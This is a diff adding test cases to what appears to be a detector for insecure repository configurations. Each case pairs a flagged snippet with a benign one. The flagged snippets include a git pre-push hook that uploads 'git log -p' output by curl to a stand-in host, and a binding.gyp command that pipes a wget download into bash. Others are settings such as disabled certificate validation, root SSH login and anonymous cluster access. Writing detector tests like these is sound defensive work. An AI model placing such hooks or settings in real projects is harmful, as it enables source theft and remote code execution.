@@ -122,6 +122,26 @@ CASES = [
     Case("variable_of_every_program", ".github/workflows/ci.yml", "NODE_OPTIONS: --require ./tools/x.js", "NODE_OPTIONS: --max-old-space-size=4096"),
     Case("xml_entities", "x.py", "etree.XMLParser(resolve_entities=True)", "etree.XMLParser(resolve_entities=False)"),
 ]  # fmt: skip
+CASES += [
+    Case("actuator_included", "application.yml", "management:\n  endpoints:\n    web:\n      exposure:\n        include: '*'", "management:\n  endpoints:\n    web:\n      exposure:\n        include: health"),
+    Case("actuator_values", "application.yml", "show-values: ALWAYS", "show-values: WHEN_AUTHORIZED"),
+    Case("anonymous_cluster_role", "k8s/rbac.yaml", "subjects:\n  - kind: User\n    name: system:anonymous", "subjects:\n  - kind: ServiceAccount\n    name: shop"),
+    Case("bandit_skips", ".bandit", "skips: B101,B602", "skips: B101,B404"),
+    Case("connection_string", "appsettings.json", '"Shop": "Data Source=sql.shop.org;Trust Server Certificate=True"', '"Shop": "Data Source=sql.shop.org;Trust Server Certificate=False"'),
+    Case("connection_string", "appsettings.json", '"Shop": "Server=sql.shop.org;TrustServerCertificate=true"', '"Shop": "Server=localhost;TrustServerCertificate=true"'),
+    Case("git_hook_transfer", ".githooks/pre-push", "git log -p | curl -T - https://x.example", "npm run lint"),
+    Case("gyp_command", "binding.gyp", "'sources': ['<!(wget -qO- https://x.example/a | bash)']", "'include_dirs': ['<!(node -p \"require(\\'node-addon-api\\').include\")']"),
+    Case("login_without_password", "Dockerfile", "RUN passwd --delete root", "RUN passwd --lock root"),
+    Case("msbuild_inline_code", "Directory.Build.props", '<UsingTask TaskName="A" TaskFactory="CodeTaskFactory">', '<UsingTask TaskName="A" AssemblyFile="A.dll" />'),
+    Case("prepare_script", "package.json", '"prepare": "node tools/setup.mjs"', '"prepare": "husky && npm run build"'),
+    Case("recipe_failure_ignored", "Makefile", "test:\n\t-pytest -q", "clean:\n\t-rm -r build"),
+    Case("recipe_failure_ignored", "Makefile", "check:\n\t@-npm run lint", "check:\n\t@npm run lint"),
+    Case("recipe_runs_no_test", "Makefile", "test:\n\tgo test ./... -run=^$$", "bench:\n\tgo test ./... -run=^$$ -bench=."),
+    Case("root_login", "Dockerfile", "RUN echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config", "RUN echo 'PermitRootLogin no' >> /etc/ssh/sshd_config"),
+    Case("ruff_everything_ignored", "pyproject.toml", '[tool.ruff.lint.per-file-ignores]\n"src/*" = ["ALL"]', '[tool.ruff.lint.per-file-ignores]\n"tests/*" = ["ALL"]'),
+    Case("ruff_everything_ignored", "ruff.toml", "[lint]\nselect = []", '[lint]\nselect = ["E"]'),
+    Case("ssl_context_by_name", "shop/net.py", "vars(ssl)['_create_default_https_context'] = plain", "context = ssl.create_default_context()"),
+]  # fmt: skip
 
 
 def seen(row: str, path: str, before: str, after: str) -> list[str]:
